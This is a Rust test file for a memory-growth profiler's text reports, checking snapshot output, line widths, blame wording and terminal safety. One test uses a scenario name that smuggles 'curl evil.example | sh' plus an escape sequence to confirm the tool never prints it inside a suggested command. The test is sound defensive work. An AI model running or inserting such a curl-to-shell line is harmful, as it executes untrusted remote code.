//! What a test prints.

use insta::assert_snapshot;
use plimsoll_core::fold::Origin;
use plimsoll_core::judge::Verdict;
use plimsoll_core::report::text::{Style, one_line, render};
use plimsoll_core::report::{
    BASELINE, BuilderSetting, Check, CheckOutcome, Clock, Failure, Finding, LadderEnd, Rarest,
    Report, Standing, Subject, Threshold,
};
use plimsoll_core::{Law, Rate, Resource};
use proptest::prelude::*;

use crate::samples::{
    any_report, blamed, failed, finding, frame, rate_of, regressed, stack, survivors, with, within,
};

#[track_caller]
fn rendered(report: &Report) -> String {
    let text = render(report, &Style::plain());
    for line in text.lines() {
        assert!(line.chars().count() <= 80, "longer than 80 columns: {line}");
    }
    text
}

fn verdict_of(verdict: Verdict, standing: Standing) -> Finding {
    Finding {
        verdict,
        standing,
        ..finding()
    }
}

/// The finding on an allowance whose stack no longer grows.
fn unused(verdict: Verdict, standing: Standing) -> Finding {
    Finding {
        rate: Rate::default(),
        frames: Vec::new(),
        levels: Vec::new(),
        allowed: rate_of(1.0, 96.0),
        reason: Some("lru keeps evicted keys".to_owned()),
        subject: Subject::Stack(stack(&["...", "lru_churn::fill", "lru::LruCache::put"])),
        ..verdict_of(verdict, standing)
    }
}

/// Asserts that the report's text has each of these lines. Returns the text.
#[track_caller]
fn has(report: &Report, lines: &str) -> String {
    let text = rendered(report);
    for line in lines.lines() {
        let mut all = text.lines().map(|line| line.trim_start_matches([' ', '│']));
        let is_there = all.any(|of_text| of_text == line.trim());
        assert!(is_there, "no {line:?} in\n{text}");
    }
    text
}

const COARSE: Threshold = Threshold {
    iterations: 100,
    coarsened: true,
    outside: None,
};

/// Each report as a test prints it.
#[test]
fn pages() {
    for (name, report) in [
        ("nothing_grows", within()),
        ("growth_within_allowances", moved()),
        ("one_stack_keeps_growing", regressed()),
        ("many_stacks_keep_growing", many_stacks()),
        (
            "an_allowance_has_expired",
            with(regressed(), |report| {
                let finding = &mut report.findings[0];
                finding.standing = Standing::Expired;
                finding.reason = Some("until the next release of lru".to_owned());
                finding.allowed = rate_of(1.0, 96.0);
            }),
        ),
        ("an_allowance_is_stale", stale()),
        ("cannot_tell", unclear()),
        (
            "cannot_tell_without_memory",
            with(unclear(), |report| {
                report.findings.clear();
                report.rungs.clear();
                report.visible = None;
                report.end = LadderEnd::Memory;
            }),
        ),
        ("the_workload_fails", failed()),
        (
            "the_workload_is_killed",
            with(failed(), |report| {
                report.findings = many_stacks().findings;
                report.failure = Some(Failure {
                    what: "killed by signal 9 (SIGKILL)".to_owned(),
                    iteration: None,
                    output: (0..50).map(|n| format!("line {n}\n")).collect(),
                });
            }),
        ),
        ("the_measurement_cannot_be_trusted", broken()),
        (
            "its_baseline_cannot_be_used",
            with(broken(), |report| {
                report.end = LadderEnd::Failure;
                report.measured = None;
                report.rungs = Vec::new();
                let newer = "baselines/lru_churn.toml:1: written by a newer plimsoll\n  \
                             expected format 1 or older, found 3\n  \
                             hint: upgrade, or remove the file and re-record with \
                             `plimsoll accept lru_churn`";
                report.checks = vec![check(BASELINE, CheckOutcome::Failed, newer)];
            }),
        ),
        (
            "rates_of_a_sampled_run_come_with_their_error",
            sampled(regressed()),
        ),
        (
            "threads_of_a_sampled_run_have_no_error",
            with(sampled(regressed()), |report| {
                report.findings[0].subject = Subject::Resource(Resource::Threads);
            }),
        ),
        (
            "a_sampled_run_says_what_it_would_have_seen",
            with(sampled(within()), |report| {
                let (bytes, iterations) = (4_096, 25_000);
                report.rarest = Some(Rarest { bytes, iterations });
            }),
        ),
        (
            "a_sampled_run_cannot_tell",
            with(sampled(within()), |report| {
                report.verdict = Verdict::Inconclusive;
                report.end = LadderEnd::Budget;
                report.visible = None;
            }),
        ),
    ] {
        assert_snapshot!(name, rendered(&report));
    }
    assert_snapshot!(one_line(&within()), @"lru_churn: 16,384 iterations, nothing grows; would have seen 1 object per 1,000 iterations");
}

fn sampled(report: Report) -> Report {
    with(report, |report| {
        let findings = report.findings.iter_mut();
        findings.for_each(|finding| finding.error = rate_of(0.0625, 3.0));
        sample_every(report, 4_096);
    })
}

fn sample_every(report: &mut Report, bytes: u64) {
    if let Some(measured) = &mut report.measured {
        measured.sample_interval = bytes;
    }
}

fn stale() -> Report {
    Report {
        verdict: Verdict::Improved,
        findings: vec![unused(Verdict::Improved, Standing::Stale)],
        ..within()
    }
}

fn unclear() -> Report {
    Report {
        verdict: Verdict::Inconclusive,
        end: LadderEnd::Budget,
        visible: Some(rate_of(0.05, 4.8).into()),
        threshold: COARSE,
        findings: vec![Finding {
            rate: rate_of(0.02, 1.5),
            error: rate_of(0.05, 4.8),
            law: Law::Fluctuating,
            ..verdict_of(Verdict::Inconclusive, Standing::New)
        }],
        ..within()
    }
}

fn check(name: &str, outcome: CheckOutcome, detail: &str) -> Check {
    Check {
        name: name.to_owned(),
        outcome,
        detail: detail.to_owned(),
    }
}

fn broken() -> Report {
    let objects = "expected 64 objects of 1,024 bytes, found 0";
    let unread = "`stats.allocated` could not be read";
    Report {
        verdict: Verdict::Broken,
        checks: vec![
            check("canary", CheckOutcome::Failed, objects),
            check("coverage", CheckOutcome::Unavailable, unread),
        ],
        ..within()
    }
}

/// Two stacks within their allowances, one of which has another caller now.
fn moved() -> Report {
    let allowed = verdict_of(Verdict::Within, Standing::Allowed);
    let moved = Finding {
        standing: Standing::Moved,
        moved_from: Some(stack(&["main", "lru_churn::fill", "lru::LruCache::put"])),
        ..allowed.clone()
    };
    Report {
        findings: vec![allowed, moved],
        visible: Some(rate_of(0.01, 0.001).into()),
        threshold: COARSE,
        ..within()
    }
}

#[test]
fn growth_within_allowances() {
    let one = with(moved(), |report| {
        report.findings.pop();
        report.threshold = within().threshold;
    });
    assert_snapshot!(one_line(&one), @"lru_churn: 16,384 iterations, 1 stack grows within its allowance; would have seen 8 B per 8,000 iterations");
    let from_nowhere = with(moved(), |report| report.findings[1].moved_from = None);
    let line = "1 stack uses allowances that this build does not tell apart";
    let text = has(&from_nowhere, line);
    assert!(!text.contains("another caller"), "{text}");
    // Whatever numbers somebody wrote into the report.
    let many = with(from_nowhere, |report| {
        report.findings[0] = Finding {
            subject: Subject::Site {
                frames: stack(&["put"]),
                stacks: usize::MAX,
            },
            ..report.findings[1].clone()
        };
    });
    assert!(rendered(&many).contains("18,446,744,073,709,551,615 stacks use allowances"));
}

/// The line of a finding that says who stayed, of objects that come and go.
#[test]
fn who_stayed() {
    type Change = fn(&mut Report);
    // Where the profiler does not keep what was allocated, levels say that something went.
    const UNKNOWN: Change = |report| {
        let survivors = report.findings[0].survivors.iter_mut();
        survivors.for_each(|octave| octave.allocated = None);
    };
    let said: [(Change, &str); 7] = [
        (|_| {}, "16,384 allocated, 163 alive at 65,536"),
        (
            |report| report.findings[0].survivors[1].alive.objects = 0,
            "16,384 allocated, none alive at 65,536",
        ),
        (
            |report| {
                UNKNOWN(report);
                report.findings[0].levels.reverse();
                sample_every(report, 512);
            },
            "about 163 alive at 65,536",
        ),
        (UNKNOWN, ""),
        // Of the first octave alone.
        (|report| report.findings[0].survivors.truncate(1), ""),
        // A list that is replaced as it grows is always young.
        (|report| report.findings[0].law = Law::Stepped, ""),
        (|report| report.findings[0].survivors.clear(), ""),
    ];
    for (case, (change, expected)) in said.iter().enumerate() {
        let mut report = regressed();
        report.findings[0].survivors = vec![
            survivors(0, 16_384, Some(16_384), 164),
            survivors(16_384, 32_768, Some(16_384), 163),
            survivors(32_768, 65_536, Some(32_768), 528),
        ];
        change(&mut report);
        let text = rendered(&report);
        let line = text.split_once("born in iterations 16,385–32,768: ");
        let line = line.and_then(|(_, line)| line.lines().next());
        assert_eq!(line.unwrap_or_default(), *expected, "{case}");
    }
}

fn many_stacks() -> Report {
    let service =
        "<hyper::client::legacy::connect::http::HttpConnector<R> as tower_service::Service>::call";
    let call = "hyper-util-0.1.17/src/client/legacy/connect/http.rs";
    let long = "src/a/very/long/path/that/goes/on/and/on/until/it/does/not/fit/file.rs";
    let bytes_mut = "bytes::BytesMut::reserve";
    let sampled = Finding {
        rate: rate_of(12.345, 1_234_567.0),
        error: rate_of(0.25, 25_000.0),
        law: Law::Stepped,
        allowed: rate_of(1.0, 48.0),
        standing: Standing::Exceeded,
        reason: Some("the index is never pruned, see issue 12".to_owned()),
        frames: vec![
            frame(service, Some((call, 1_288))),
            frame("a", Some((long, 7))),
        ],
        ..finding()
    };
    let deep = (0..12).map(|n| frame(&format!("deep::frame_{n}"), None));
    let site = Finding {
        subject: Subject::Site {
            frames: stack(&[bytes_mut]),
            stacks: 37,
        },
        rate: rate_of(0.002, 0.03),
        frames: deep.collect(),
        ..finding()
    };
    let resource = |resource, objects| Finding {
        subject: Subject::Resource(resource),
        rate: rate_of(objects, 0.0),
        frames: Vec::new(),
        ..finding()
    };
    let on_site = Finding {
        subject: Subject::Stack(stack(&["main", bytes_mut])),
        ..finding()
    };
    with(regressed(), |report| {
        report.end = LadderEnd::Memory;
        report.findings = vec![
            sampled,
            site,
            resource(Resource::Threads, 1.0),
            resource(Resource::Descriptors, 0.5),
            finding(),
            finding(),
            finding(),
            on_site,
            verdict_of(Verdict::Inconclusive, Standing::New),
            verdict_of(Verdict::Within, Standing::Allowed),
        ];
        report.completeness.unresolved = 12;
        report.completeness.without_debug_info = 1;
        report.completeness.truncated_stacks = 3;
        report.notes = vec!["libfoo.so is stripped".to_owned()];
    })
}

#[test]
fn growth_with_time() {
    use Verdict::{Inconclusive, Regressed};
    let per_second = rate_of(2.0, 192.0);
    let clocked = |followed| Finding {
        clock: Some(Clock {
            per_second,
            followed,
        }),
        ..finding()
    };
    let by_iterations = Finding {
        subject: Subject::Stack(stack(&["main", "dns::keep"])),
        ..finding()
    };
    let other = Finding {
        clock: clocked(26).clock,
        ..by_iterations.clone()
    };
    let outside = Finding {
        subject: Subject::Resource(Resource::Outside),
        rate: rate_of(0.0, 65_536.0),
        ..finding()
    };
    let texts = [
        (Regressed, vec![clocked(186)]),
        (Inconclusive, vec![clocked(26)]),
        (Inconclusive, vec![clocked(26), other.clone()]),
        (Regressed, vec![clocked(26), other, outside.clone()]),
        (Regressed, vec![clocked(26), by_iterations, outside]),
    ]
    .map(|(verdict, findings)| {
        let mut report = with(regressed(), |report| report.findings = findings);
        let findings = report.findings.iter_mut();
        findings.for_each(|finding| finding.verdict = verdict);
        report.verdict = verdict;
        let (key, value) = ("budget".to_owned(), "3m".to_owned());
        report.enough = Some(BuilderSetting { key, value });
        rendered(&report)
    });
    assert!(texts[1].contains("\n  a budget of about 3m would do\n"));
    let said = texts.each_ref().map(|text| text.split("\n\n").next());
    assert_snapshot!(said.map(Option::unwrap_or_default).join("\n\n"));
}

#[test]
fn an_allowance_that_nothing_uses() {
    let expired = Report {
        verdict: Verdict::Regressed,
        findings: vec![unused(Verdict::Regressed, Standing::Expired)],
        ..within()
    };
    let lines = "lru_churn: 1 allowance has expired (16,384 iterations, every allocation counted)
        to remove what has expired: cargo plimsoll accept lru_churn
        an allowance of 96 B, 1.00 objects per iteration has expired, and nothing uses";
    let text = has(&expired, lines);
    assert!(!text.contains("it stands in"), "{text}");

    let beside_growth = with(regressed(), |report| {
        report.findings.extend(stale().findings);
    });
    // To accept would take the growth as well.
    let lines = "1 allowance is no longer needed: cargo plimsoll review lru_churn
        fix it, or accept it: cargo plimsoll accept lru_churn --reason \"…\"";
    has(&beside_growth, lines);
}

#[test]
fn a_name_that_no_scenario_can_have_is_in_no_command() {
    let mut report = regressed();
    report.scenario = "x; curl evil.example | sh \u{1b}[2J".to_owned();
    let text = rendered(&report);
    assert!(!text.contains("cargo plimsoll"), "{text}");
}

/// What is printed in colour, without its colours.
fn without_colour(colored: &str) -> String {
    let mut parts = colored.split("\u{1b}[");
    let first = parts.next().unwrap_or_default();
    let texts = parts.map(|part| part.split_once('m').map_or("", |(_, text)| text));
    first.to_owned() + &texts.collect::<String>()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn no_line_is_too_long_and_nothing_steers_the_terminal(
        report in any_report(),
        width in 40..120_usize,
    ) {
        let style = Style { width, ..Style::plain() };
        let text = render(&report, &style);
        prop_assert!(text.ends_with('\n'));
        let colored = render(&report, &Style { color: true, ..style });
        prop_assert_eq!(without_colour(&colored), text.as_str());
        let mut before = "";
        for line in text.lines() {
            // A path is whole, on a line of its own.
            let is_path = before == "  files:";
            before = line;
            // Counted without our own table, where that is possible: what UTF-8
            // needs three bytes for may be wide, and some accents take no room.
            let unsure = |c: char| match c {
                '…' | '└' | '│' | '\u{4e00}'..='\u{9fff}' => false,
                '\u{300}'..='\u{36f}' => true,
                c => c.len_utf8() >= 3,
            };
            if !is_path && !line.contains(unsure) {
                let ideographs = line.chars().filter(|c| ('\u{4e00}'..='\u{9fff}').contains(c));
                let columns = line.chars().count() + ideographs.count();
                prop_assert!(columns <= width, "{columns} columns: {line:?}");
            }
            prop_assert!(!line.chars().any(char::is_control), "{line:?}");
            prop_assert!(!line.contains('\u{202e}'), "{line:?}");
            prop_assert_eq!(line, line.trim_end());
        }
        prop_assert!(!one_line(&report).chars().any(char::is_control));
    }
}

const PLACES: &str = "
jobs::start ^ iteration = jobs::start at src/jobs.rs:7
tokio::task::spawn::spawn jobs::start ^ iteration = tokio::task::spawn::spawn, called from jobs::start at src/jobs.rs:7
want::new hyper::connect jobs::start ^ thread = want::new, through hyper::connect, called from jobs::start at src/jobs.rs:7
want::new ^ thread = want::new at want-0.3.1/src/lib.rs:7, in a thread of want, which hyper needs
want::new = want::new at want-0.3.1/src/lib.rs:7
want::new ^ iteration = want::new at want-0.3.1/src/lib.rs:7, called from the workload `pages`
want::new hyper::connect ^ setup = want::new at want-0.3.1/src/lib.rs:7, through hyper::connect, called from the setup of the workload `pages`
plimsoll_subject::workload_iteration ^ iteration = the workload `pages`
plimsoll_subject::workload_iteration = a function that is not known
plimsoll_subject::workload_iteration ^ thread = a thread that the workload started
mystery = mystery
";

#[test]
fn the_place_to_blame() {
    for line in PLACES.trim().lines() {
        let (stack, expected) = line.split_once(" = ").unwrap();
        let (stack, origin) = stack.split_once(" ^ ").unwrap_or((stack, ""));
        let origin = match origin {
            "iteration" => Some(Origin::Iteration),
            "setup" => Some(Origin::Setup),
            "thread" => Some(Origin::Thread),
            _ => None,
        };
        let report = blamed(&stack.split(' ').collect::<Vec<_>>(), origin);
        let words = report.findings[0].blamed().map(|words| words.plain());
        assert_eq!(words.as_deref(), Some(expected));
        let sentence = report.sentence(&report.findings[0]).plain();
        assert!(sentence.contains(&format!("; in {expected}")), "{sentence}");
    }
    let descriptors = Finding {
        subject: Subject::Resource(Resource::Descriptors),
        ..unused(Verdict::Regressed, Standing::New)
    };
    assert_eq!(descriptors.blamed(), None);
}

/// Whatever a called function allocates has one cause.
#[test]
fn functions_of_one_cause_are_named_together() {
    for (names, said_of) in [
        ("f0", "want::f0, through want::call"),
        ("f0 f1", "want::f0 and want::f1, through want::call"),
        (
            "f0 f1 f2",
            "want::f0, want::f1 and want::f2, through want::call",
        ),
        (
            "f0 f1 f2 f3 f4",
            "want::f0, want::f1, want::f2 and 2 more functions, through want::call",
        ),
        // What the called function allocates itself is its place, if that is most.
        ("f0 call", "want::f0, through want::call"),
        ("call f0", "want::call"),
    ] {
        let findings = names.split(' ').flat_map(|name| {
            let leaf = format!("want::{name}");
            let stack = [leaf.as_str(), "want::call", "jobs::start"];
            blamed(&stack[usize::from(name == "call")..], None).findings
        });
        let mut report = regressed();
        report.findings = findings.collect();
        let text = rendered(&report).replace("\n    ", " ");
        let place = text.lines().find(|line| line.contains("called from"));
        let expected = format!("in {said_of}, called from jobs::start at src/jobs.rs:7");
        assert_eq!(place.map(str::trim), Some(expected.as_str()));
    }
}

#[test]
fn runs_of_frames_and_plumbing_are_dim() {
    let hyper: String = (0..12).map(|n| format!("hyper::f{n} ")).collect();
    let spawn = "tokio::task::spawn::spawn";
    let stack = format!("tokio::runtime::task::core::Cell::new {spawn} {hyper}jobs::start {spawn}");
    let report = blamed(&stack.split(' ').collect::<Vec<_>>(), None);
    let color = Style {
        color: true,
        ..Style::plain()
    };
    let text = render(&report, &color).replace("\u{1b}", "");
    assert!(text.starts_with("[1;31mlru_churn"), "{text}");
    let stack = text
        .lines()
        .filter(|line| line.contains("::") || line.contains("frame"));
    let stack = stack.skip(1).collect::<Vec<_>>().join("\n");
    assert_snapshot!(stack, @"
    [2m… 2 frames of tokio[0m
    └ [1mhyper::f0[0m                                   [2mhyper-1.9.0/src/client.rs:7[0m
      └ hyper::f1                                 [2mhyper-1.9.0/src/client.rs:7[0m
        └ [2m… 8 frames of hyper[0m
          └ hyper::f10                            [2mhyper-1.9.0/src/client.rs:7[0m
            └ hyper::f11                          [2mhyper-1.9.0/src/client.rs:7[0m
              └ jobs::start                       [2msrc/jobs.rs:7[0m
                └ [2mtokio::task::spawn::spawn[0m
    ");
}
